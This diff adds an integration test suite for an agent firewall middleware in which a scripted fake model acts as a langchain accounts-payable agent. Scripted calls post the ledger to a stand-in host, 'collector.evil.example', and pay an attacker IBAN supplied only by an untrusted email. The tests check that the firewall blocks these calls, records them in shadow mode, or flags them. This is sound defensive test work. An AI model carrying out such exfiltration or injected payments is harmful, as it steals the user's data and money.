@@ -1,0 +1,197 @@
+// Integration: langchain's createAgent loop with its own fake model, the shared Rego
+// policies and the real firewall; every run ends by verifying the transcript offline.
+import { Command, MemorySaver } from '@langchain/langgraph';
+import type { Kit } from '@writ/example-kit';
+import type { FirewallSession } from '@writ/core';
+import { AIMessage, HumanMessage, createAgent, fakeModel } from 'langchain';
+import type { BaseMessage } from 'langchain';
+import { describe, expect, it } from 'vitest';
+import type { WritApprovalRequest, WritCallEvent } from '../src/index.ts';
+import { writMiddleware } from '../src/index.ts';
+import { ATTACKER_IBAN, USER_IBAN, entries, entriesFor, financeTools, openKit } from './support.ts';
+
+type Call = { name: string; args: Record<string, unknown>; id: string };
+
+function agentFor(options: { session: FirewallSession; script: Call[][]; events?: WritCallEvent[] }) {
+  const { tools, ran } = financeTools();
+  let model = fakeModel();
+  for (const calls of options.script) model = model.respondWithTools(calls);
+  model = model.respond(new AIMessage('done'));
+  const onEvent = (event: WritCallEvent) => options.events?.push(event);
+  const agent = createAgent({
+    model,
+    tools,
+    middleware: [writMiddleware({ session: options.session, onEvent })],
+    checkpointer: new MemorySaver(),
+    systemPrompt: 'You are the accounts-payable assistant of ACME.',
+  });
+  return { agent, model, ran };
+}
+
+const config = { configurable: { thread_id: 'thread-1' } };
+const ask = (text: string) => ({ messages: [new HumanMessage(text)] });
+
+function toolMessage(messages: BaseMessage[], callId: string) {
+  const found = messages.find((m) => m.getType() === 'tool' && (m as unknown as { tool_call_id: string }).tool_call_id === callId);
+  if (found === undefined) throw new Error(`no tool message for ${callId}`);
+  return found as BaseMessage & { status?: string };
+}
+
+function interruptOf(result: unknown): WritApprovalRequest {
+  const interrupts = (result as { __interrupt__?: { value: WritApprovalRequest }[] }).__interrupt__;
+  if (interrupts?.length !== 1) throw new Error('expected one interrupt');
+  return interrupts[0]!.value;
+}
+
+async function finish(kit: Kit, session: FirewallSession) {
+  await session.end();
+  const report = await kit.finish();
+  expect(report.valid).toBe(true);
+}
+
+describe('writMiddleware (createAgent)', () => {
+  it('runs an allowed payment once and records one decision and one receipt', async () => {
+    const { kit, session } = await openKit();
+    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay', args: { iban: USER_IBAN, amount: 120 }, id: 'c1' }]] });
+    const result = await agent.invoke(ask(`Pay 120 EUR to ${USER_IBAN}`), config);
+    expect(ran.vendor_pay).toBe(1);
+    expect(toolMessage(result.messages, 'c1').text).toBe(`paid 120 to ${USER_IBAN}`);
+    expect(await entriesFor(kit, { type: 'decision-made', callId: 'c1' })).toHaveLength(1);
+    expect(await entriesFor(kit, { type: 'effect-executed', callId: 'c1' })).toHaveLength(1);
+    await finish(kit, session);
+  });
+
+  it('denies a call to a host outside the allowlist: not executed, the model reads why', async () => {
+    const { kit, session } = await openKit();
+    const { agent, model, ran } = agentFor({ session, script: [[{ name: 'http_post', args: { url: 'https://collector.evil.example/x', body: 'ledger' }, id: 'c1' }]] });
+    const result = await agent.invoke(ask('Send the ledger to our partner'), config);
+    expect(ran.http_post).toBe(0);
+    const message = toolMessage(result.messages, 'c1');
+    expect(message.status).toBe('error');
+    expect(message.text).toMatch(/collector\.evil\.example|egress|host/i);
+    const lastCall = model.calls.at(-1)!.messages;
+    expect(lastCall.some((m) => m.getType() === 'tool' && m.text === message.text)).toBe(true);
+    expect(await entriesFor(kit, { type: 'effect-executed', callId: 'c1' })).toHaveLength(0);
+    await finish(kit, session);
+  });
+
+  it('blocks an IBAN that only an email (untrusted tool output) supplied', async () => {
+    const { kit, session } = await openKit();
+    const { agent, ran } = agentFor({
+      session,
+      script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'vendor_pay', args: { iban: ATTACKER_IBAN, amount: 120 }, id: 'c2' }]],
+    });
+    const result = await agent.invoke(ask('Pay the vendor invoice from my inbox, 120 EUR'), config);
+    expect(ran).toMatchObject({ email_read: 1, vendor_pay: 0 });
+    const message = toolMessage(result.messages, 'c2');
+    expect(message.status).toBe('error');
+    expect(message.text).toMatch(/taint|untrusted/i);
+    const [decision] = await entriesFor(kit, { type: 'decision-made', callId: 'c2' });
+    expect(decision?.body.decision).toBe('deny');
+    await finish(kit, session);
+  });
+
+  it('records the same tainted payment in shadow mode, executes it, and says what enforce would have done', async () => {
+    const { kit, session } = await openKit('shadow');
+    const events: WritCallEvent[] = [];
+    const { agent, ran } = agentFor({
+      session,
+      events,
+      script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'vendor_pay', args: { iban: ATTACKER_IBAN, amount: 120 }, id: 'c2' }]],
+    });
+    const result = await agent.invoke(ask('Pay the vendor invoice from my inbox, 120 EUR'), config);
+    expect(ran.vendor_pay).toBe(1);
+    expect(toolMessage(result.messages, 'c2').text).toBe(`paid 120 to ${ATTACKER_IBAN}`);
+    const event = events.find((e) => e.callId === 'c2')!;
+    expect(event.outcome).toBe('executed');
+    expect(event.guard).toMatchObject({ mode: 'shadow', decision: 'deny', verdict: 'execute', wouldHave: 'block' });
+    const [decision] = await entriesFor(kit, { type: 'decision-made', callId: 'c2' });
+    expect(decision?.body).toMatchObject({ decision: 'deny', mode: 'shadow' });
+    await finish(kit, session);
+  });
+
+  it('pauses a large payment for approval and runs it once after a signed approval', async () => {
+    const { kit, session } = await openKit();
+    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c1' }]] });
+    const paused = await agent.invoke(ask(`Pay invoice 4411: 9000 EUR to ${USER_IBAN}`), config);
+    const request = interruptOf(paused);
+    expect(request).toMatchObject({ type: 'writ/approval-request', tool: 'vendor_pay_large', callId: 'c1', refused: false });
+    expect(ran.vendor_pay_large).toBe(0);
+    const resumed = await agent.invoke(new Command({ resume: kit.approve(request.pending, 'manager') }), config);
+    expect(ran.vendor_pay_large).toBe(1);
+    expect(toolMessage(resumed.messages, 'c1').text).toBe(`paid 9000 to ${USER_IBAN}`);
+    // One judgement asked, one released after the approval; re-runs of the node added nothing.
+    expect((await entriesFor(kit, { type: 'decision-made', callId: 'c1' })).map((e) => e.body.decision)).toEqual(['require-approval', 'allow-with-constraints']);
+    expect(await entriesFor(kit, { type: 'effect-executed', callId: 'c1' })).toHaveLength(1);
+    await finish(kit, session);
+  });
+
+  it('refuses a forged approval (asks again), then a rejection tells the model; never executed', async () => {
+    const { kit, session } = await openKit();
+    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c1' }]] });
+    const request = interruptOf(await agent.invoke(ask(`Pay invoice 4411: 9000 EUR to ${USER_IBAN}`), config));
+    const again = interruptOf(await agent.invoke(new Command({ resume: kit.forge(request.pending) }), config));
+    expect(again).toMatchObject({ callId: 'c1', refused: true });
+    expect(ran.vendor_pay_large).toBe(0);
+    const done = await agent.invoke(new Command({ resume: { reject: 'no valid approval' } }), config);
+    const message = toolMessage(done.messages, 'c1');
+    expect(message.status).toBe('error');
+    expect(message.text).toContain('no valid approval');
+    expect(ran.vendor_pay_large).toBe(0);
+    expect((await entries(kit)).filter((e) => e.type === 'approval-recorded')).toHaveLength(0);
+    await finish(kit, session);
+  });
+
+  it('refuses a stale approval signed for an earlier intent (another amount)', async () => {
+    const { kit, session } = await openKit();
+    const { agent, ran } = agentFor({
+      session,
+      script: [[{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9000 }, id: 'c1' }], [{ name: 'vendor_pay_large', args: { iban: USER_IBAN, amount: 9500 }, id: 'c2' }]],
+    });
+    const first = interruptOf(await agent.invoke(ask(`Pay 9000 EUR to ${USER_IBAN}, or 9500 if the fee applies`), config));
+    const old = kit.approve(first.pending, 'manager');
+    // The model's next step asks for 9500 right after the first payment ran.
+    const second = interruptOf(await agent.invoke(new Command({ resume: old }), config));
+    expect(ran.vendor_pay_large).toBe(1);
+    expect(second.callId).toBe('c2');
+    const refused = interruptOf(await agent.invoke(new Command({ resume: old }), config));
+    expect(refused).toMatchObject({ callId: 'c2', refused: true });
+    expect(ran.vendor_pay_large).toBe(1);
+    await finish(kit, session);
+  });
+
+  it('refuses invalid raw arguments before the firewall sees them', async () => {
+    const { kit, session } = await openKit();
+    const { agent, ran } = agentFor({ session, script: [[{ name: 'vendor_pay', args: { iban: USER_IBAN, amount: 'lots' }, id: 'c1' }]] });
+    const result = await agent.invoke(ask(`Pay the vendor at ${USER_IBAN}`), config);
+    expect(ran.vendor_pay).toBe(0);
+    const message = toolMessage(result.messages, 'c1');
+    expect(message.status).toBe('error');
+    expect(message.text).toMatch(/^Invalid arguments for vendor_pay: amount:/);
+    expect(await entriesFor(kit, { type: 'decision-made', callId: 'c1' })).toHaveLength(0);
+    await finish(kit, session);
+  });
+
+  it('shows the advisory warning to the model next to the output', async () => {
+    const { kit, session } = await openKit('advisory');
+    const { agent, ran } = agentFor({
+      session,
+      script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'vendor_pay', args: { iban: ATTACKER_IBAN, amount: 120 }, id: 'c2' }]],
+    });
+    const result = await agent.invoke(ask('Pay the vendor invoice from my inbox, 120 EUR'), config);
+    expect(ran.vendor_pay).toBe(1);
+    expect(toolMessage(result.messages, 'c2').text).toMatch(/^paid 120 to .*\n\n\[writ advisory\] /s);
+    await finish(kit, session);
+  });
+
+  it('records each system, user and tool message as basis once across model calls', async () => {
+    const { kit, session } = await openKit();
+    const { agent } = agentFor({ session, script: [[{ name: 'email_read', args: {}, id: 'c1' }], [{ name: 'email_read', args: {}, id: 'c2' }]] });
+    await agent.invoke(ask('Read my inbox twice'), config);
+    const basis = (await entries(kit)).filter((e) => e.type === 'basis-added').map((e) => `${String(e.body.kind)}/${String(e.body.authority)}`);
+    // Three model calls saw the system prompt and the user turn: each recorded once. The two
+    // reads returned the same text, which core keeps as one item (its id is the content digest).
+    expect(basis).toEqual(['instruction/verified', 'instruction/user', 'tool-output/untrusted']);
+    await finish(kit, session);
+  });
+});
